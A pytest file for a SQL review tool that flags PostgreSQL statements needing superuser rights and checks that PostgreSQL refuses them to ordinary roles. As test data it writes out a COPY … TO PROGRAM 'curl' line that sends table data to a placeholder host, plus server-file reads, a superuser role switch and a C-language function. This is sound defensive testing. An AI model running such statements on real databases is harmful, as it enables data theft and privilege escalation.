"""Statements that need a superuser are rules of `check` and `review` without --pg, and PostgreSQL refuses them."""

from __future__ import annotations

import shutil
from pathlib import Path

import psycopg
import pytest

from _corpus import corpus_root
from bcastsim.cli import main
from bcastsim.findings import Severity
from bcastsim.pg import UNTRUSTED_ROLE, EphemeralPostgres
from bcastsim.review import ReviewConfig, check, review
from bcastsim.review._danger import PRIVILEGE_RULE_IDS
from bcastsim.sqlmodel import PRIVILEGED_KINDS, load_catalog

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures" / "sql" / "privileged"
# The rules' unsafe and safe examples, with the other rules' (tests/test_review_rules.py runs them too).
RULE_FIXTURES = ROOT / "tests" / "fixtures" / "sql" / "review" / "rules"
KINDS = sorted(PRIVILEGE_RULE_IDS)


def _marked_lines(path: Path, kind: str) -> list[int]:
    """The lines a fixture marks with ``-- expect: KIND``: where its findings must be."""
    return [n for n, line in enumerate(path.read_text().splitlines(), start=1) if f"-- expect: {kind}" in line]


def test_every_kind_has_a_rule() -> None:
    """The catalog's kinds and the rules are the same set."""
    assert set(PRIVILEGED_KINDS) == PRIVILEGE_RULE_IDS


@pytest.mark.parametrize("kind", KINDS)
def test_the_safe_counterpart_draws_none(kind: str) -> None:
    """STDIN/STDOUT, trusted extensions, RESET ROLE, the project's own same-named functions: no finding."""
    report = check([RULE_FIXTURES / f"{kind}.safe.sql"])
    assert [e.finding.message for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS] == []


@pytest.mark.parametrize("kind", KINDS)
def test_each_statement_kind_is_an_error_where_it_sits(kind: str) -> None:
    """Top level, DO bodies, PL/pgSQL and SQL function bodies and EXECUTEd constants: each use, on its own line."""
    path = RULE_FIXTURES / f"{kind}.unsafe.sql"
    report = check([path])
    found = [e.finding for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS]
    assert {f.rule for f in found} == {kind}, [f.message for f in found]
    assert sorted(f.line for f in found if f.line is not None) == _marked_lines(path, kind)
    assert all(f.severity.value == "error" for f in found)
    assert all("escalation attempt" in f.message for f in found)
    assert report.exit_status == 1


def test_a_refusal_swallowed_by_an_exception_block_says_which() -> None:
    """WHEN OTHERS and WHEN SQLSTATE '42501' that do not re-raise are named by line; a re-raise is not."""
    report = check([FIXTURES / "swallowed.sql"])
    messages = {e.finding.line: e.finding.message for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS}
    assert set(messages) == {6, 11, 17}
    assert "swallowed by the EXCEPTION at line 7" in messages[6]
    assert "swallowed" not in messages[11]  # insufficient_privilege, re-raised
    # The inner block catches only division_by_zero: the outer one's 42501 handler swallows it.
    assert "swallowed by the EXCEPTION at line 20" in messages[17]


def test_a_comment_in_the_reviewed_files_cannot_suppress_it(tmp_path: Path) -> None:
    """ignore[...] and ignore-file[...] leave the error in place and say that they cannot suppress it."""
    source = (RULE_FIXTURES / "copy-program.unsafe.sql").read_text()
    path = tmp_path / "hostile.sql"
    hidden = source.replace("-- expect: copy-program", "-- bcastsim: ignore[copy-program]")
    path.write_text("-- bcastsim: ignore-file[copy-program]\n" + hidden)
    report = check([path])
    assert sum(e.finding.rule == "copy-program" for e in report.entries) == 4
    assert report.suppressed == 0
    notes = [e.finding.message for e in report.entries if e.finding.rule == "unused-suppression"]
    assert notes
    assert all("cannot be suppressed" in note for note in notes)
    assert report.exit_status == 1


def test_the_reviewed_configuration_cannot_turn_it_off_or_lower_it() -> None:
    """disable, an enable list without it and a lower severity leave each privilege rule an error."""
    path = RULE_FIXTURES / "copy-program.unsafe.sql"
    for config in (
        ReviewConfig(disable=frozenset(KINDS)),
        ReviewConfig(enable=frozenset({"exception-swallowed"})),
        ReviewConfig(severity={kind: Severity.NOTE for kind in KINDS}),
    ):
        found = [e.finding for e in check([path], config=config).entries if e.finding.rule == "copy-program"]
        assert found, config
        assert {f.severity for f in found} == {Severity.ERROR}, config


def test_review_reports_what_the_new_version_adds(tmp_path: Path) -> None:
    """An old COPY … PROGRAM is not reported again; the one the change adds is, as introduced."""
    old = tmp_path / "old.sql"
    new = tmp_path / "new.sql"
    old.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'true';\n")
    new.write_text(old.read_text() + "ALTER SYSTEM SET work_mem = '1GB';\n")
    report = review(str(old), str(new))
    introduced = [(e.state, e.finding.rule) for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS]
    assert introduced == [("introduced", "alter-system")]
    assert report.exit_status == 1


def test_review_reports_a_changed_statement_as_new(tmp_path: Path) -> None:
    """COPY … PROGRAM 'gzip' become 'curl …' in the same place is introduced, not paired away with the old one."""
    old = tmp_path / "old.sql"
    new = tmp_path / "new.sql"
    old.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'gzip > /backup/bids.gz';\n")
    new.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'curl -d @- https://example.invalid';\n")
    report = review(str(old), str(new))
    states = sorted((e.state, e.finding.rule) for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS)
    assert states == [("fixed", "copy-program"), ("introduced", "copy-program")]
    assert report.exit_status == 1


def test_cli_check_exits_1_with_the_finding(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`bcastsim check` on a file with a COPY … PROGRAM prints the error and exits 1."""
    path = tmp_path / "hostile.sql"
    shutil.copy(RULE_FIXTURES / "copy-program.unsafe.sql", path)
    assert main(["check", str(path)]) == 1
    assert "error[copy-program]" in capsys.readouterr().out


def test_the_real_world_corpus_has_one_role_switch() -> None:
    """Trigger SQL from 20 public projects: the one use is Realtime's own apply_rls taking each subscriber's role."""
    root = corpus_root()
    if root is None:
        pytest.skip("the real-world corpus (../shared/realworld) is not beside the checkout")
    uses = []
    for path in sorted(root.rglob("*.sql")):
        try:
            catalog = load_catalog(path)
        except Exception:
            continue
        uses += [(path.name, use.function, use.kind) for use in catalog.privileged]
    # set_config('role', trim(both '"' from working_role::text), true): a real switch, made by the platform.
    assert uses == [("tenant_db_dump_15.sql", "realtime.apply_rls", "set-role")]


# -- measured: PostgreSQL refuses each kind to a role that is no superuser --------------------------------

# A statement of each kind, and the SQLSTATE PostgreSQL 15 refuses it with for an ordinary role.
_REFUSED = {
    "copy-program": ("COPY (SELECT 1) TO PROGRAM 'true'", "42501"),
    "copy-server-file": ("COPY (SELECT 1) TO '/tmp/bcastsim-refused.csv'", "42501"),
    "server-file-access": ("SELECT pg_read_file('postgresql.conf')", "42501"),
    "large-object-file": ("SELECT lo_import('/etc/hostname')", "42501"),
    "alter-system": ("ALTER SYSTEM SET work_mem = '77MB'", "42501"),
    "dangerous-extension": ("CREATE EXTENSION file_fdw", "42501"),
    "untrusted-language": ("CREATE FUNCTION bcastsim_abs(int) RETURNS int LANGUAGE c AS 'libc.so.6', 'abs'", "42501"),
    "set-role": ("SET SESSION AUTHORIZATION {superuser}", "42501"),
    "dblink": ("SELECT dblink_connect('dbname=postgres')", "2F003"),
}


@pytest.mark.postgres
@pytest.mark.parametrize("kind", KINDS)
def test_postgresql_refuses_each_kind_to_an_ordinary_role(bcastsim_server: EphemeralPostgres, kind: str) -> None:
    """The rule's claim, measured: run as the unprivileged role, each statement is refused with its SQLSTATE."""
    statement, sqlstate = _REFUSED[kind]
    name = f"bcastsim_refused_{kind.replace('-', '_')}"
    database = bcastsim_server.create_database(name=name, untrusted=True)
    database.close()
    try:
        if kind == "dblink":  # installed by the superuser, as a platform would: the call itself is refused
            bcastsim_server.execute("CREATE EXTENSION dblink", name)
        with psycopg.connect(bcastsim_server.conninfo(name, UNTRUSTED_ROLE), autocommit=True) as connection:
            superuser = connection.execute("SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1").fetchone()
            assert superuser is not None
            with pytest.raises(psycopg.Error) as refused:
                connection.execute(statement.format(superuser=superuser[0]))
        assert refused.value.sqlstate == sqlstate, refused.value
    finally:
        bcastsim_server.drop_database(name)
